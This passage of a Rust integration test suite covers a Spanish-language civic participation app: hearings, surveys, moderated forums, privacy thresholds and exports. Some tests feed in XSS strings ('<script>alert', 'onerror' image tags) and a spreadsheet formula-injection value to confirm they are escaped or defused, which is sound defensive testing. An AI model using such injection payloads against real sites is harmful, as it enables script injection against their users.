    let registered_at = registered.location.unwrap();
    let after = app.get(&registered_at, None).await;
    assert!(
        after.body.contains("menos de 5"),
        "a group of one was published"
    );
    // The registration's code leads to the data kept, partly hidden.
    let registration = registered_at
        .split("inscrito=")
        .nth(1)
        .unwrap()
        .split('#')
        .next()
        .unwrap()
        .to_string();
    assert!(registration.starts_with("IN-"), "{registration}");
    assert!(after
        .body
        .contains(&format!("href=\"/audiencias/datos/{registration}\"")));
    let data_path = format!("/audiencias/datos/{}", registration.to_lowercase());
    let data = app.get(&data_path, None).await;
    assert_eq!(data.status, StatusCode::OK);
    assert!(
        data.body.contains("A** P****") && data.body.contains("a**@correo.co"),
        "{}",
        data.body
    );
    assert!(!data.body.contains("ana@correo.co") && !data.body.contains("Ana Pérez"));
    assert_eq!(
        app.get("/audiencias/datos/IN-0000-0000", None).await.status,
        StatusCode::NOT_FOUND
    );
    let asked = post_from(
        &app,
        "10.1.0.1",
        &format!("{public}/preguntas"),
        &[(
            "pregunta",
            "¿Cuándo habrá feria de vivienda en Cali? <b>urgente</b>",
        )],
    )
    .await;
    assert_eq!(asked.status, StatusCode::SEE_OTHER);
    let code = asked
        .location
        .unwrap()
        .split("pregunta=")
        .nth(1)
        .unwrap()
        .split('#')
        .next()
        .unwrap()
        .to_string();
    assert!(code.starts_with("AP-"));

    // The one code lookup leads to the question and to the registration, however typed.
    let lookup = |c: &str| {
        format!(
            "/consulta-codigo?codigo={}",
            c.to_lowercase().replace('-', "+")
        )
    };
    let to_question = app.get(&lookup(&code), None).await;
    assert_eq!(
        to_question.status,
        StatusCode::SEE_OTHER,
        "{}",
        to_question.body
    );
    assert_eq!(
        to_question.location.as_deref(),
        Some(format!("/audiencias/{id}?pregunta={code}").as_str())
    );
    let to_data = app.get(&lookup(&registration), None).await;
    assert_eq!(
        to_data.location.as_deref(),
        Some(format!("/audiencias/datos/{registration}").as_str())
    );
    let unknown = app.get("/consulta-codigo?codigo=AP-2222-3333", None).await;
    assert_eq!(unknown.status, StatusCode::NOT_FOUND);
    assert!(
        unknown.body.contains("pregunta a la audiencia") && unknown.body.contains("AP-2222-3333"),
        "{}",
        unknown.body
    );

    // Staff see the question pending and answer it; the public page publishes it.
    let admin_page = app
        .get(&format!("/admin/audiencias/{id}"), Some(&admin))
        .await;
    assert!(
        admin_page.body.contains(&code) && admin_page.body.contains("Pendiente")
            || admin_page.body.contains("Vencida sin respuesta")
    );
    assert!(admin_page.body.contains("ana@correo.co"));
    let oci_page = app
        .get(&format!("/admin/audiencias/{id}"), Some(&auditor))
        .await;
    assert!(
        !oci_page.body.contains("ana@correo.co"),
        "personal data shown to internal control"
    );
    // The citizen erases them: staff no longer see them, the count stays.
    let erased = post_from(&app, "10.1.0.1", &format!("{data_path}/borrar"), &[]).await;
    assert_eq!(erased.status, StatusCode::SEE_OTHER);
    let data = app.get(erased.location.as_deref().unwrap(), None).await;
    assert!(
        data.body.contains("Sus datos fueron borrados"),
        "{}",
        data.body
    );
    let admin_page = app
        .get(&format!("/admin/audiencias/{id}"), Some(&admin))
        .await;
    assert!(
        !admin_page.body.contains("ana@correo.co")
            && admin_page
                .body
                .contains("(datos borrados por el ciudadano)")
    );
    assert_eq!(
        app.store
            .registrations(id.parse().unwrap())
            .await
            .unwrap()
            .len(),
        1
    );
    // The public page tells the count it keeps, and only from five on.
    assert_eq!(
        app.store
            .registration_count(id.parse().unwrap())
            .await
            .unwrap(),
        1
    );
    assert!(app
        .get(&public, None)
        .await
        .body
        .contains("<dt>Inscritos</dt><dd>menos de 5</dd>"));
    let q = app.store.questions(id.parse().unwrap()).await.unwrap()[0].id;
    let answer_path = format!("/admin/audiencias/{id}/preguntas/{q}");
    assert_eq!(
        app.post(&answer_path, Some(&auditor), &[("respuesta", "x")])
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    let answered = app
        .post(
            &answer_path,
            Some(&admin),
            &[("respuesta", "La feria de vivienda en Cali será en marzo.")],
        )
        .await;
    assert_eq!(answered.status, StatusCode::SEE_OTHER);
    let page = app.get(&public, None).await;
    assert!(page
        .body
        .contains("La feria de vivienda en Cali será en marzo."));
    assert!(
        !page.body.contains("<b>urgente</b>"),
        "question text not escaped"
    );
    // Answered today, long after 22 August 2025: answered late.
    let admin_page = app
        .get(&format!("/admin/audiencias/{id}"), Some(&admin))
        .await;
    assert!(admin_page.body.contains("Respondida fuera de término"));
    // The evaluation survey: the admin creates it (internal control cannot); citizens
    // answer it from the hearing page; its results go into the hearing report.
    let evaluation_path = format!("/admin/audiencias/{id}/evaluacion");
    let closes = (participa_app::dates::today() + chrono::Duration::days(10)).to_string();
    assert_eq!(
        app.post(&evaluation_path, Some(&auditor), &[("cierra", &closes)])
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        app.post(&evaluation_path, Some(&admin), &[("cierra", "2020-01-01")])
            .await
            .status,
        StatusCode::BAD_REQUEST
    );
    let created = app
        .post(&evaluation_path, Some(&admin), &[("cierra", &closes)])
        .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER);
    let evaluation = created
        .location
        .unwrap()
        .rsplit('/')
        .next()
        .unwrap()
        .to_string();
    let hearing_page = app.get(&public, None).await;
    assert!(hearing_page
        .body
        .contains(&format!("href=\"/consultas/{evaluation}\"")));
    for (i, (clear, participated)) in [("5", "Sí"), ("4", "Sí"), ("4", "No")].iter().enumerate() {
        let ip = format!("10.6.0.{i}");
        let r = post_from(
            &app,
            &ip,
            &format!("/consultas/{evaluation}/respuestas"),
            &[
                ("p1", "Redes sociales"),
                ("p2", clear),
                ("p3", "4"),
                ("p4", participated),
                ("p5", "Sí"),
            ],
        )
        .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    }
    // The hearing report lists the question and its answer.
    let pdf = app
        .get(
            &format!("/admin/audiencias/{id}/informe.pdf"),
            Some(&auditor),
        )
        .await;
    assert_eq!(pdf.status, StatusCode::OK);
    let words = pdf_text(&pdf.bytes);
    for expected in [
        &code as &str,
        "¿Cuándo habrá feria de vivienda en Cali?",
        "La feria de vivienda en Cali será en marzo.",
        "Afiliados",
        "Respondida fuera de término",
        "Evaluación de la audiencia",
        "Respuestas a la encuesta de evaluación: 3",
        "¿La audiencia le permitió participar y hacer preguntas?",
        "66,7 %",
        "promedio 4,3",
    ] {
        assert!(
            words.contains(expected),
            "missing «{expected}» in:\n{words}"
        );
    }
}

async fn survey_consultation(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let today = participa_app::dates::today();
    let opens = today.to_string();
    let closes = (today + chrono::Duration::days(30)).to_string();
    let created = app
        .post(
            "/admin/consultas",
            Some(&admin),
            &[
                ("titulo", "Encuesta previa a la rendición de cuentas"),
                ("descripcion", "¿Qué temas quiere oír?"),
                ("abre", &opens),
                ("cierra", &closes),
                ("actividad", "1:2"),
            ],
        )
        .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    let admin_path = created.location.unwrap();
    let id = admin_path.rsplit('/').next().unwrap().to_string();
    let add = |fields: Vec<(&'static str, &'static str)>| {
        let path = format!("{admin_path}/preguntas");
        let cookie = admin.clone();
        let app = &app;
        async move { app.post(&path, Some(&cookie), &fields).await }
    };
    assert_eq!(
        add(vec![
            ("texto", "¿Ha usado el subsidio de vivienda?"),
            ("tipo", "unica"),
            ("opciones", "Sí\nNo"),
            ("obligatoria", "si")
        ])
        .await
        .status,
        StatusCode::SEE_OTHER
    );
    let bad = add(vec![
        ("texto", "¿Cómo califica?"),
        ("tipo", "escala"),
        ("obligatoria", "si"),
        ("condicion", "1:Tal vez"),
    ])
    .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.body.contains("id=\"condicion-error\""));
    assert_eq!(
        add(vec![
            ("texto", "¿Cómo califica el trámite?"),
            ("tipo", "escala"),
            ("obligatoria", "si"),
            ("condicion", "1:Sí")
        ])
        .await
        .status,
        StatusCode::SEE_OTHER
    );
    assert_eq!(
        add(vec![("texto", "¿Qué mejoraría?"), ("tipo", "texto")])
            .await
            .status,
        StatusCode::SEE_OTHER
    );

    let public = format!("/consultas/{id}");
    let page = app.get(&public, None).await;
    assert!(page
        .body
        .contains("Responda solo si en la pregunta 1 respondió «Sí»."));
    // The conditional question is required when shown: the answer is refused, kept.
    let missing = post_from(
        &app,
        "10.2.0.1",
        &format!("{public}/respuestas"),
        &[("p1", "Sí")],
    )
    .await;
    assert_eq!(missing.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        missing.body.contains("id=\"p2-error\"") && missing.body.contains("value=\"Sí\" checked")
    );
    // Hidden (answered "No"), it is neither required nor kept.
    let no = post_from(
        &app,
        "10.2.0.1",
        &format!("{public}/respuestas"),
        &[("p1", "No"), ("p2", "5")],
    )
    .await;
    assert_eq!(no.status, StatusCode::SEE_OTHER);
    let yes = post_from(
        &app,
        "10.2.0.1",
        &format!("{public}/respuestas"),
        &[
            ("p1", "Sí"),
            ("p2", "4"),
            ("p3", "=HYPERLINK(\"x\") <script>alert(1)</script>"),
        ],
    )
    .await;
    assert_eq!(yes.status, StatusCode::SEE_OTHER);
    let responses = app.store.responses(id.parse().unwrap()).await.unwrap();
    assert_eq!(responses.len(), 2);
    assert!(
        !responses[0].answers.contains_key(&2),
        "a hidden question's answer was kept"
    );

    // Results for staff: counts, percentages, the average, open answers escaped.
    let results = app.get(&admin_path, Some(&admin)).await;
    assert!(results.body.contains("50 %") && results.body.contains("promedio 4"));
    assert!(!results.body.contains("<script>alert(1)"));
    // Public only once published.
    assert_eq!(
        app.get(&format!("{public}/resultados"), None).await.status,
        StatusCode::NOT_FOUND
    );
    app.post(
        &format!("{admin_path}/resultados"),
        Some(&admin),
        &[("publicos", "si")],
    )
    .await;
    let open = app.get(&format!("{public}/resultados"), None).await;
    assert_eq!(open.status, StatusCode::OK);
    assert!(
        !open.body.contains("HYPERLINK"),
        "open answers are for staff only"
    );
    // Two participants: the public page shows no group under 5 (Ley 1581), neither as a
    // count nor as a percentage that would give it away; staff see the figures.
    assert!(
        open.body.contains("menos de 5 participantes")
            && open.body.contains("<td>menos de 5</td>")
            && !open.body.contains("50 %")
            && !open.body.contains("promedio"),
        "{}",
        open.body
    );
    // The CSV has every response; a formula-looking answer is defused.
    let csv = app
        .get(&format!("{admin_path}/respuestas.csv"), Some(&admin))
        .await;
    assert_eq!(csv.status, StatusCode::OK);
    assert_eq!(csv.body.lines().count(), 3);
    assert!(
        csv.body.contains("\"'=HYPERLINK(\"\"x\"\")"),
        "{}",
        csv.body
    );
    // The XLSX has the same rows; the formula-looking answer is a plain text cell and
    // the scale a number.
    let xlsx = app
        .get(&format!("{admin_path}/respuestas.xlsx"), Some(&admin))
        .await;
    assert_eq!(xlsx.status, StatusCode::OK);
    {
        use calamine::{Data, Reader, Xlsx};
        let mut book = Xlsx::new(std::io::Cursor::new(xlsx.bytes.clone())).unwrap();
        let sheet = book.worksheet_range("Respuestas").unwrap();
        assert_eq!(sheet.height(), 3);
        let rows: Vec<_> = sheet.rows().collect();
        assert_eq!(
            rows[0][2],
            Data::String("1. ¿Ha usado el subsidio de vivienda?".into())
        );
        assert_eq!(rows[2][3], Data::Float(4.0));
        // The response number is a number and its moment an Excel date-time (Colombia).
        assert!(matches!(rows[1][0], Data::Float(_)), "{:?}", rows[1][0]);
        match &rows[1][1] {
            Data::DateTime(d) => {
                let day = d.as_datetime().unwrap().date();
                let today = participa_app::dates::today();
                assert!(day <= today && (today - day).num_days() <= 1, "{day}");
            }
            other => panic!("the moment is {other:?}, not a date-time cell"),
        }
        assert_eq!(
            rows[2][4],
            Data::String("=HYPERLINK(\"x\") <script>alert(1)</script>".into())
        );
    }
    assert_eq!(
        app.get(&format!("{admin_path}/respuestas.xlsx"), None)
            .await
            .status,
        StatusCode::SEE_OTHER,
        "the export needs a session"
    );
    // The participants reach activity 2's follow-up with no manual entry.
    let activity = app
        .get("/admin/planes/1/seguimiento/actividades/2", Some(&admin))
        .await;
    assert!(activity
        .body
        .contains("Encuesta previa a la rendición de cuentas: 2 participantes"));
}

/// Creates a consultation as the admin and returns its id.
/// Planning adds «Festivo de prueba» on 16 Feb 2026, as the holidays page does.
async fn add_test_holiday(app: &TestApp, cookie: Option<&str>) {
    let added = app
        .post(
            "/admin/festivos",
            cookie,
            &[
                ("accion", "agregar"),
                ("fecha", "2026-02-16"),
                ("nombre", "Festivo de prueba"),
                ("motivo", "Ley de prueba"),
            ],
        )
        .await;
    assert_eq!(added.status, StatusCode::SEE_OTHER, "{}", added.body);
}

async fn new_consultation(app: &TestApp, admin: &str, extra: &[(&str, &str)]) -> String {
    let today = participa_app::dates::today();
    let opens = today.to_string();
    let closes = (today + chrono::Duration::days(30)).to_string();
    let mut fields = vec![
        ("titulo", "Foro previo a la rendición de cuentas"),
        ("abre", opens.as_str()),
        ("cierra", closes.as_str()),
        ("actividad", "1:2"),
    ];
    fields.extend_from_slice(extra);
    let created = app.post("/admin/consultas", Some(admin), &fields).await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    created
        .location
        .unwrap()
        .rsplit('/')
        .next()
        .unwrap()
        .to_string()
}

/// The public forum page shows each topic's 30 most recent conversations (a comment
/// and its replies) with links to the others, so that it costs the same however many
/// comments the forum gathers; a refused reply is shown again on its conversation's
/// page with what was typed.
async fn a_forum_page_shows_a_page_of_conversations_whatever_the_forum_holds(db: TestDatabase) {
    use participa_domain::participation::forum::{CommentStatus, NewComment};
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let id = new_consultation(
        &app,
        &admin,
        &[("tipo", "foro"), ("moderacion", "posterior")],
    )
    .await;
    let cid: i64 = id.parse().unwrap();
    let topic = app
        .store
        .add_forum_topic(
            cid,
            "Vivienda",
            "¿Qué esperan del subsidio?",
            &Actor::system(),
        )
        .await
        .unwrap();
    let mut first = 0;
    for n in 1..=35 {
        let c = app
            .store
            .add_forum_comment(
                topic,
                &NewComment {
                    body: format!("Comentario número {n:02}"),
                    author: None,
                    parent: None,
                },
                CommentStatus::Published,
            )
            .await
            .unwrap();
        if n == 1 {
            first = c;
        }
    }
    app.store
        .add_forum_comment(
            topic,
            &NewComment {
                body: "Respuesta al primero".into(),
                author: None,
                parent: Some(first),
            },
            CommentStatus::Published,
        )
        .await
        .unwrap();
    let public = format!("/consultas/{id}");
    let page = app.get(&public, None).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body.contains("Comentario número 35") && page.body.contains("Comentario número 06")
    );
    assert!(
        !page.body.contains("Comentario número 05") && !page.body.contains("Respuesta al primero")
    );
    assert!(
        page.body
            .contains("Conversaciones 1 a 30, contadas desde la más reciente."),
        "{}",
        page.body
    );
    let older = format!("/consultas/{id}?tema={topic}&amp;pagina=2#tema-{topic}");
    assert!(page.body.contains(&older), "{}", page.body);
    let second = app
        .get(&format!("{public}?tema={topic}&pagina=2"), None)
        .await;
    assert!(
        second.body.contains("Comentario número 01")
            && second.body.contains("Respuesta al primero")
    );
    assert!(!second.body.contains("Comentario número 06"));
    assert!(second.body.contains("Conversaciones más recientes"));
    assert!(second
        .body
        .contains("Conversaciones 31 a 35, contadas desde la más reciente."));
    assert!(!second.body.contains("Conversaciones anteriores"));
    // A reply too short to the first comment: refused, shown on page 2, text kept.
    let r = app
        .post(
            &format!("{public}/respuestas"),
            None,
            &[
                ("tema", &topic.to_string()),
                ("padre", &first.to_string()),
                ("comentario", "Sí"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(
        r.body.contains("Comentario número 01"),
        "the reply's conversation is shown"
    );
    assert!(r.body.contains(">Sí</textarea>"), "{}", r.body);
}

async fn forum_with_moderation(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let auditor = app.login("auditor").await;
    let reporter = app.login("reporter").await;
    // A forum with identification is refused, what was typed kept.
    let bad = app
        .post(
            "/admin/consultas",
            Some(&admin),
            &[
                ("titulo", "Foro"),
                ("tipo", "foro"),
                ("moderacion", "previa"),
                ("identificacion", "si"),
                ("abre", "2025-01-01"),
                ("cierra", "2025-01-31"),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.body.contains("id=\"identificacion-error\""));
    let id = new_consultation(&app, &admin, &[("tipo", "foro"), ("moderacion", "previa")]).await;
    let admin_path = format!("/admin/consultas/{id}");
    let public = format!("/consultas/{id}");
    // Topics are opened by the admin only.
    assert_eq!(
        app.post(
            &format!("{admin_path}/temas"),
            Some(&reporter),
            &[("titulo", "x")]
        )
        .await
        .status,
        StatusCode::FORBIDDEN
    );
    let empty = app
        .post(
            &format!("{admin_path}/temas"),
            Some(&admin),
            &[("titulo", " "), ("texto", "Presentación que se conserva")],
        )
        .await;
    assert_eq!(empty.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(empty.body.contains("Presentación que se conserva"));
    let topic = app
        .post(
            &format!("{admin_path}/temas"),
            Some(&admin),
            &[
                ("titulo", "Vivienda"),
                ("texto", "¿Qué esperan del subsidio de vivienda?"),
            ],
        )
        .await;
    assert_eq!(topic.status, StatusCode::SEE_OTHER);
    let topic_id = app.store.forum(id.parse().unwrap()).await.unwrap().0[0]
        .id
        .to_string();
    let comment = |ip: &'static str, fields: Vec<(&'static str, String)>| {
        let app = &app;
        let path = format!("{public}/respuestas");
        async move {
            let pairs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
            post_from(app, ip, &path, &pairs).await
        }
    };
    // A name without consent is refused next to the field; the text stays, escaped.
    let refused = comment(
        "10.3.0.1",
        vec![
            ("tema", topic_id.clone()),
            ("comentario", "<b>Más</b> ferias en Cali".into()),
            ("nombre", "Ana".into()),
        ],
    )
    .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refused.body.contains("id=\"autorizacion-error\""));
    assert!(refused
        .body
        .contains("&#60;b&#62;Más&#60;/b&#62; ferias en Cali"));
    assert!(!refused.body.contains("<b>Más</b>"));
    // Moderated before publication: received, not shown.
    let sent = comment(
        "10.3.0.1",
        vec![
            ("tema", topic_id.clone()),
            ("comentario", "Más ferias de vivienda en Cali".into()),
            ("nombre", "Ana".into()),
            ("autorizacion", "si".into()),
        ],
    )
    .await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER);
    let after = app.get(sent.location.as_deref().unwrap(), None).await;
    assert!(after
        .body
        .contains("se publicará cuando el equipo lo revise"));
    assert!(!after.body.contains("Más ferias de vivienda en Cali"));
    let c1 = app.store.forum(id.parse().unwrap()).await.unwrap().1[0].id;
    // A reply to a comment that is not published is refused.
    let early = comment(
        "10.3.0.2",
        vec![
            ("tema", topic_id.clone()),
            ("padre", c1.to_string()),
            ("comentario", "De acuerdo".into()),
        ],
    )
    .await;
    assert_eq!(early.status, StatusCode::UNPROCESSABLE_ENTITY);
    // The queue: internal control sees it but cannot moderate; the admin publishes.
    let queue = app
        .get(&format!("{admin_path}/moderacion"), Some(&auditor))
        .await;
    assert_eq!(queue.status, StatusCode::OK);
    assert!(
        queue.body.contains("Más ferias de vivienda en Cali")
            && !queue.body.contains("Publicar</button>")
    );
    let moderate = format!("{admin_path}/comentarios/{c1}");
    assert_eq!(
        app.post(&moderate, Some(&auditor), &[("accion", "publicar")])
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        app.post(&moderate, Some(&admin), &[("accion", "publicar")])
            .await
            .status,
        StatusCode::SEE_OTHER
    );
    let shown = app.get(&public, None).await;
    assert!(
        shown.body.contains("Más ferias de vivienda en Cali")
            && shown.body.contains("<strong>Ana</strong>")
    );
    // A reply, threaded under it; then a report of abuse.
    let reply = comment(
        "10.3.0.2",
        vec![
            ("tema", topic_id.clone()),
            ("padre", c1.to_string()),
            ("comentario", "Compre ya en www.ejemplo.co".into()),
        ],
    )
    .await;
    assert_eq!(reply.status, StatusCode::SEE_OTHER);
    let c2 = app.store.forum(id.parse().unwrap()).await.unwrap().1[1].id;
    assert_eq!(
        app.post(
            &format!("{admin_path}/comentarios/{c2}"),
            Some(&admin),
            &[("accion", "publicar")]
        )
        .await
        .status,
        StatusCode::SEE_OTHER
    );
    let threaded = app.get(&public, None).await;
    assert!(threaded.body.contains(
        "class=\"depth-1\" id=\"c{c2}\""
            .replace("{c2}", &c2.to_string())
            .as_str()
    ));
    let report_path = format!("{public}/comentarios/{c2}/reportar");
    let no_reason = post_from(&app, "10.3.0.3", &report_path, &[("motivo", "")]).await;
    assert_eq!(no_reason.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(no_reason.body.contains("id=\"motivo-error\""));
    let reported = post_from(
        &app,
        "10.3.0.3",
        &report_path,
        &[("motivo", "Es publicidad")],
    )
    .await;
    assert_eq!(reported.status, StatusCode::SEE_OTHER);
    let queue = app
        .get(&format!("{admin_path}/moderacion"), Some(&admin))
        .await;
    assert!(queue.body.contains("Es publicidad") && queue.body.contains("Mantener publicado"));
    // Hiding needs a reason: refused, the page comes back; then hidden with one.
    let moderate2 = format!("{admin_path}/comentarios/{c2}");
    let no_reason = app
        .post(
            &moderate2,
            Some(&admin),
            &[("accion", "ocultar"), ("motivo", " ")],
        )
        .await;
    assert_eq!(no_reason.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(no_reason.body.contains("id=\"motivo-error\""));
    assert_eq!(
        app.post(
            &moderate2,
            Some(&admin),
            &[("accion", "ocultar"), ("motivo", "Publicidad comercial")]
        )
        .await
        .status,
        StatusCode::SEE_OTHER
    );
    let hidden = app.get(&public, None).await;
    assert!(hidden.body.contains("Motivo: Publicidad comercial"));
    assert!(
        !hidden.body.contains("www.ejemplo.co"),
        "a hidden comment's text still shows"
    );
    let queue = app
        .get(&format!("{admin_path}/moderacion"), Some(&admin))
        .await;
    assert!(queue.body.contains("Por revisar (0)") && queue.body.contains("Ocultos (1)"));
    // Staff export every comment with its thread and moderation.
    let csv = app
        .get(&format!("{admin_path}/comentarios.csv"), Some(&auditor))
        .await;
    assert_eq!(csv.status, StatusCode::OK);
    assert_eq!(csv.body.lines().count(), 3, "{}", csv.body);
    assert!(
        csv.body
            .contains(&format!("\"Vivienda\",\"{c2}\",\"{c1}\""))
            && csv.body.contains("\"Oculto\",\"Publicidad comercial\""),
        "{}",
        csv.body
    );
    // Reporting a hidden comment is a 404; an unknown action a 400.
    assert_eq!(
        post_from(&app, "10.3.0.3", &report_path, &[("motivo", "otra vez")])
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        app.post(&moderate2, Some(&admin), &[("accion", "borrar")])
            .await
            .status,
        StatusCode::BAD_REQUEST
    );
    // Moderated after publication: shown at once.
    let after_id = new_consultation(
        &app,
        &admin,
        &[("tipo", "foro"), ("moderacion", "posterior")],
    )
    .await;
    app.post(
        &format!("/admin/consultas/{after_id}/temas"),
        Some(&admin),
        &[("titulo", "Educación financiera")],
    )
    .await;
    let t2 = app.store.forum(after_id.parse().unwrap()).await.unwrap().0[0]
        .id
        .to_string();
    let at_once = post_from(
        &app,
        "10.3.0.4",
        &format!("/consultas/{after_id}/respuestas"),
        &[
            ("tema", &t2),
            ("comentario", "Talleres los sábados, por favor"),
        ],
    )
    .await;
    assert_eq!(at_once.status, StatusCode::SEE_OTHER);
    assert!(app
        .get(&format!("/consultas/{after_id}"), None)
        .await
        .body
        .contains("Talleres los sábados, por favor"));
    // Published comments reach activity 2's follow-up with no manual entry.
    let activity = app
        .get("/admin/planes/1/seguimiento/actividades/2", Some(&admin))
        .await;
    assert!(
        activity
            .body
            .contains("Foro previo a la rendición de cuentas: 1 comentario publicado"),
        "{}",
        activity.body
    );
}

async fn identified_survey_takes_one_answer_per_person(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let id = new_consultation(
        &app,
        &admin,
        &[("tipo", "encuesta"), ("identificacion", "si")],
    )
    .await;
    app.post(
        &format!("/admin/consultas/{id}/preguntas"),
        Some(&admin),
        &[
            ("texto", "¿Asistirá a la audiencia?"),
            ("tipo", "unica"),
            ("opciones", "Sí\nNo"),
            ("obligatoria", "si"),
        ],
    )
    .await;
    let public = format!("/consultas/{id}");
    let page = app.get(&public, None).await;
    assert!(page.body.contains("id=\"documento\"") && page.body.contains("Ley 1581 de 2012"));
    let answer = format!("{public}/respuestas");
    // Without consent: refused, the answer and the document kept.
    let refused = post_from(
        &app,
        "10.4.0.1",
        &answer,
        &[
            ("p1", "Sí"),
            ("tipo_documento", "CC"),
            ("documento", "1.020.304.050"),
        ],
    )
    .await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refused.body.contains("id=\"autorizacion-error\""));
    assert!(
        refused.body.contains("value=\"1.020.304.050\"")
            && refused.body.contains("value=\"Sí\" checked")
    );
    let ok = post_from(
        &app,
        "10.4.0.1",
        &answer,
        &[
            ("p1", "Sí"),
            ("tipo_documento", "CC"),
            ("documento", "1.020.304.050"),
            ("autorizacion", "si"),
        ],
    )
    .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER);
    // The same person, written another way, from another address: refused by the document.
    let twice = post_from(
        &app,
        "10.4.0.2",
        &answer,
        &[
            ("p1", "No"),
            ("tipo_documento", "CC"),
            ("documento", "1020304050"),
            ("autorizacion", "si"),
        ],
    )
    .await;
    assert_eq!(twice.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        twice
            .body
            .contains("ya se registró una respuesta con ese documento")
            || twice
                .body
                .contains("Ya se registró una respuesta con ese documento")
    );
    let other = post_from(
        &app,
        "10.4.0.2",
        &answer,
        &[
            ("p1", "No"),
            ("tipo_documento", "CC"),
            ("documento", "79000111"),
            ("autorizacion", "si"),
        ],
    )
    .await;
    assert_eq!(other.status, StatusCode::SEE_OTHER);
    let c = app.store.consultation(id.parse().unwrap()).await.unwrap();
    assert_eq!(c.responses, 2);
    // The number is not stored anywhere a staff export reads.
    let csv = app
        .get(
            &format!("/admin/consultas/{id}/respuestas.csv"),
            Some(&admin),
        )
        .await;
    assert!(!csv.body.contains("1020304050") && !csv.body.contains("79000111"));
}

/// Script in every remaining text field comes back escaped, on the page that shows it.
async fn hostile_text_comes_back_escaped(db: TestDatabase) {
    const HOSTILE: &str = "<script>alert('x')</script><img src=x onerror=alert(1)>";
    fn clean(page: &str, what: &str) {
        assert!(
            !page.contains("<script>alert"),
            "{what}: raw script in the page"
        );
        assert!(!page.contains("<img src=x"), "{what}: raw tag in the page");
        assert!(
            page.contains("&#60;script&#62;alert("),
            "{what}: the text is not shown escaped"
        );
    }
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let today = participa_app::dates::today();
    let closes = (today + chrono::Duration::days(30)).to_string();
    // Consultation: title, description, question text and options.
    let created = app
        .post(
            "/admin/consultas",
            Some(&admin),
            &[
                ("titulo", HOSTILE),
                ("descripcion", HOSTILE),
                ("abre", &today.to_string()),
                ("cierra", &closes),
            ],
        )
        .await;
    let survey = created.location.unwrap();
    let options = format!("{HOSTILE}\nNo");
    app.post(
        &format!("{survey}/preguntas"),
        Some(&admin),
        &[
            ("texto", HOSTILE),
            ("tipo", "unica"),
            ("opciones", &options),
        ],
    )
    .await;
    let survey_id = survey.rsplit('/').next().unwrap();
    clean(
        &app.get(&survey, Some(&admin)).await.body,
        "survey staff page",
    );
    clean(
        &app.get(&format!("/consultas/{survey_id}"), None).await.body,
        "survey public page",
    );
    clean(
        &app.get("/admin/consultas", Some(&admin)).await.body,
        "consultation list",
    );
    // Forum: topic title and text, a comment, its author, an abuse report, a hide reason.
    let forum = new_consultation(
        &app,
        &admin,
        &[("tipo", "foro"), ("moderacion", "posterior")],
    )
    .await;
    app.post(
        &format!("/admin/consultas/{forum}/temas"),
        Some(&admin),
        &[("titulo", HOSTILE), ("texto", HOSTILE)],
    )
    .await;
    let topic = app.store.forum(forum.parse().unwrap()).await.unwrap().0[0]
        .id
        .to_string();
    let name = "<i>Ana</i>";
    let posted = post_from(
        &app,
        "10.5.0.1",
        &format!("/consultas/{forum}/respuestas"),
        &[
            ("tema", &topic),
            ("comentario", HOSTILE),
            ("nombre", name),
            ("autorizacion", "si"),
        ],
    )
    .await;
    assert_eq!(posted.status, StatusCode::SEE_OTHER);
    let page = app.get(&format!("/consultas/{forum}"), None).await.body;
    clean(&page, "forum page");
    assert!(page.contains("&#60;i&#62;Ana&#60;/i&#62;"));
    let comment = app.store.forum(forum.parse().unwrap()).await.unwrap().1[0].id;
    post_from(
        &app,
        "10.5.0.1",
        &format!("/consultas/{forum}/comentarios/{comment}/reportar"),
        &[("motivo", HOSTILE)],
    )
    .await;
    clean(
        &app.get(
            &format!("/admin/consultas/{forum}/moderacion"),
            Some(&admin),
        )
        .await
        .body,
        "moderation queue",
    );
    app.post(
        &format!("/admin/consultas/{forum}/comentarios/{comment}"),
        Some(&admin),
        &[("accion", "ocultar"), ("motivo", HOSTILE)],
    )
    .await;
    clean(
        &app.get(&format!("/consultas/{forum}"), None).await.body,
        "hidden comment's reason",
    );
    // Hearing: title, place, call, and a registrant's name (staff page).
    let held = (today + chrono::Duration::days(10)).to_string();
    let hearing = app
        .post(
            "/admin/audiencias",
            Some(&admin),
            &[
                ("titulo", HOSTILE),
                ("fecha", &held),
                ("hora", "10:00"),
                ("lugar", HOSTILE),
                ("convocatoria", HOSTILE),
            ],
        )
        .await;
    assert_eq!(hearing.status, StatusCode::SEE_OTHER, "{}", hearing.body);
    let hearing_admin = hearing.location.unwrap();
    let hearing_id = hearing_admin.rsplit('/').next().unwrap().to_string();
    let groups = app.store.value_groups().await.unwrap();
    let registered = post_from(
        &app,
        "10.5.0.2",
